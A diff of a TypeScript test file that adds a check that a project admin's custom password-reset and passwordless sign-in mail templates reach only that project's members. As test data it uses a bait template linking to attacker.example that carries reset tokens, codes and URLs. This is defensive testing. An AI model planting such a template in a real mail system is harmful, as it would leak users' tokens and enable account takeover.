@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { startTestApp, type TestApp } from '../testkit/app.js'
-import { createProject, projectAdmin, sql } from '../testkit/fixtures.js'
+import { addProjectMember, configureTenant, createProject, projectAdmin, signUpPerson, sql } from '../testkit/fixtures.js'
 import { entriesSince, expectNoEffect, logSize } from '../testkit/expectations.js'
 
 let app: TestApp
@@ -40,11 +40,44 @@ describe('mail templates', () => {
     expect(count!.count).toBe(1)
   })
 
+  it("renders a reset or sign-in mail with a project's template only for the project's members: its admins write it, and the mail carries a token", async () => {
+    await configureTenant(app, { passwordless: { enabled: 'always' } })
+    const admin = await projectAdmin(app, 'news')
+    const bait = 'https://attacker.example/steal?t={{token}}&r={{requestId}}&c={{code}}&u={{url}}'
+    for (const type of ['RESET_PASSWORD_REQUEST', 'PASSWORDLESS_SIGN_IN']) {
+      const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'Security notice', content: bait, useLayout: false } }, token: admin.token })
+      expect(added.data.addMailTemplate).toEqual({ ok: true, error: null })
+    }
+    const member = await signUpPerson(app)
+    await addProjectMember(app, 'news', member.identityId, [{ role: 'editor', variables: [] }])
+    const outsider = await signUpPerson(app)
+    const subjects = async (email: string) => {
+      for (const operation of ['createResetPasswordRequest', 'initSignInPasswordless']) {
+        const response = await app.gql(`mutation ($email: String!) { ${operation}(email: $email, options: { mailProject: "news" }) { ok } }`, {
+          variables: { email },
+          token: app.loginToken,
+        })
+        expect(response.data[operation].ok, operation).toBe(true)
+      }
+      // Mail is sent in the background.
+      for (let attempt = 0; attempt < 50; attempt++) {
+        const mails = await sql<{ subject: string }>(app, 'SELECT subject FROM mail_outbox WHERE recipient = $1 ORDER BY subject', [email])
+        if (mails.length === 2) return mails.map((mail) => mail.subject)
+        await new Promise((resolve) => setTimeout(resolve, 100))
+      }
+      throw new Error(`no mail to ${email}`)
+    }
+    expect(await subjects(member.email)).toEqual(['Security notice', 'Security notice'])
+    const outsiderSubjects = await subjects(outsider.email)
+    expect(outsiderSubjects).not.toContain('Security notice')
+    expect(outsiderSubjects).toHaveLength(2)
+  })
+
   it("shows a project admin only its project's templates", async () => {
     await app.gql(ADD, { variables: { template: { projectSlug: 'news', type: 'FORCED_SIGN_OUT', subject: 's', content: 'c' } }, token: app.rootToken })
     const admin = await projectAdmin(app, 'news')
     const listed = await app.gql(LIST, { token: admin.token })
-    expect(listed.data.mailTemplates.map((template: { projectSlug: string }) => template.projectSlug)).toEqual(['news'])
+    expect([...new Set(listed.data.mailTemplates.map((template: { projectSlug: string }) => template.projectSlug))]).toEqual(['news'])
   })
 
   it('refuses unknown projects, missing variables, bad reply-to and unknown templates without any effect', async () => {
